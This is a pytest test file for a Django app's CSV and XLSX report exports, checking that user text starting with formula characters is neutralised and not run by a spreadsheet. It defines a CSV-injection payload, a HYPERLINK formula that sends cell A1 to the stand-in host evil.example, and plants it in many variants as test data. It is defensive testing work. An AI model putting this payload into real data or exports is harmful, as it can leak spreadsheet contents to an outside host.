"""Exports never hand a spreadsheet a formula. In CSV, user text starting with = + - @ tab or
CR (also after leading whitespace) is prefixed with a quote; our own numbers stay numbers. In
XLSX, user text is always a text cell, never a formula, and keeps its exact letters."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from kierratys.accounts.roles import COORDINATOR
from kierratys.reports import spreadsheets
from reservations import services

from ..factories import CategoryFactory, DepartmentFactory, ListingFactory, UnitFactory, UserFactory
from ..factories import reserve as reserve_listing

pytestmark = pytest.mark.django_db

LEADS = ["=", "+", "-", "@", "\t", "\r", "＝"]
PADDING = ["", " ", "  ", "\n", " \t", "\u00a0"]
PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"klikkaa")'
DANGEROUS = tuple("=+-@\t\r＝")


def hostile_values():
    return [pad + lead + PAYLOAD for lead in LEADS for pad in PADDING]


def csv_rows(client, table):
    response = client.get(reverse("reports:csv", args=[table]), HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def assert_no_formula(rows):
    for row in rows:
        for cell in row:
            first = cell.lstrip(" \t\r\n\u00a0")[:1]
            assert not cell.startswith(DANGEROUS), repr(cell)
            assert not (first and first in DANGEROUS and not cell.startswith("'")), repr(cell)


@pytest.fixture
def hostile_world():
    """One collected listing per hostile value: its title, unit, department and category."""
    values = hostile_values()
    receiver = UserFactory()
    for n, value in enumerate(values):
        unit = UnitFactory(
            name=f"{value} u{n}", department=DepartmentFactory(name=f"{value} d{n}", code=f"X{n}")
        )
        category = CategoryFactory(
            slug=f"evil-{n}", name_fi=f"{value} c{n}", name_en=f"{value} c{n}", name_sv=value
        )
        listing = ListingFactory(
            title=f"{value} t{n}", owner_unit=unit, category=category, weight_kg=None, quantity=2
        )
        reservation = reserve_listing(listing, user=receiver)
        services.reservation_collect(actor=listing.created_by, reservation_id=reservation.pk)
    return values


@pytest.fixture
def coordinator_client(client):
    client.force_login(UserFactory(roles=[COORDINATOR]))
    return client


@pytest.mark.parametrize("table", ["listings", "categories", "departments"])
def test_exports_neutralise_every_leading_formula_character(
    hostile_world, coordinator_client, table
):
    rows = csv_rows(coordinator_client, table)
    assert len(rows) > len(hostile_world) // 2  # the hostile rows are really there
    assert_no_formula(rows)
    texts = [cell for row in rows[1:] for cell in row]
    # The text itself is kept, behind one quote.
    assert any(cell.startswith("'=" + PAYLOAD) for cell in texts)
    assert any(cell.startswith("' =" + PAYLOAD) for cell in texts)


def test_unit_breakdown_export_is_neutralised_too(hostile_world, coordinator_client):
    department = UnitFactory._meta.model.objects.filter(name__startswith="=").first().department
    response = coordinator_client.get(
        reverse("reports:csv", args=["departments"]), {"department": department.pk}
    )
    rows = list(csv.reader(io.StringIO(response.content.decode()[1:])))
    assert len(rows) == 2
    assert_no_formula(rows)


def test_numbers_we_write_stay_numbers():
    texts = ["-12.50", "-3", "0.00", "42", "2025-01", "=1+1", "-1-1", "-", "+358 40 123"]
    table = spreadsheets.Table("t", [spreadsheets.Column(str(n)) for n in range(9)], [texts])
    response = io.StringIO()
    spreadsheets.write_csv(response, table, spreadsheets.csv_format("en"))
    written = list(csv.reader(io.StringIO(response.getvalue()[1:])))[1]
    assert written[:5] == ["-12.50", "-3", "0.00", "42", "2025-01"]
    assert written[5:] == ["'=1+1", "'-1-1", "'-", "'+358 40 123"]


def test_finnish_csv_is_neutralised_too(hostile_world, coordinator_client):
    response = coordinator_client.get(
        reverse("reports:csv", args=["listings"]), HTTP_ACCEPT_LANGUAGE="fi"
    )
    rows = list(csv.reader(io.StringIO(response.content.decode()[1:]), delimiter=";"))
    assert len(rows) > len(hostile_world) // 2
    assert_no_formula(rows)


@pytest.mark.parametrize("table", ["listings", "categories", "departments"])
def test_workbooks_hold_hostile_text_as_text_never_as_a_formula(
    hostile_world, coordinator_client, table
):
    response = coordinator_client.get(
        reverse("reports:xlsx", args=[table]), HTTP_ACCEPT_LANGUAGE="en"
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert sheet.max_row > len(hostile_world) // 2
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    # The text is kept exactly, no quote added; Excel's quote prefix keeps it text when edited.
    hostile = [cell for cell in texts if PAYLOAD in cell.value]
    assert hostile and all(cell.data_type == "s" for cell in hostile)
    assert any(cell.value.startswith("=" + PAYLOAD) for cell in hostile)
    assert all(cell.quotePrefix for cell in hostile if cell.value.lstrip().startswith(DANGEROUS))


def test_workbooks_drop_characters_a_workbook_cannot_hold():
    table = spreadsheets.Table(
        "a/b:c", [spreadsheets.Column("x")], [["bell\x07 and nul\x00 gone\tkept"]]
    )
    out = io.BytesIO()
    spreadsheets.write_xlsx(out, table)
    sheet = load_workbook(out).active
    assert sheet.title == "a b c"
    assert sheet["A2"].value == "bell and nul gone\tkept"


def test_summary_export_keeps_its_figures(hostile_world, coordinator_client):
    rows = csv_rows(coordinator_client, "summary")
    items = next(row for row in rows if row[0] == "Items reused")
    assert items[1] == str(len(hostile_world))
    assert timezone.localdate().year  # the default period: this year
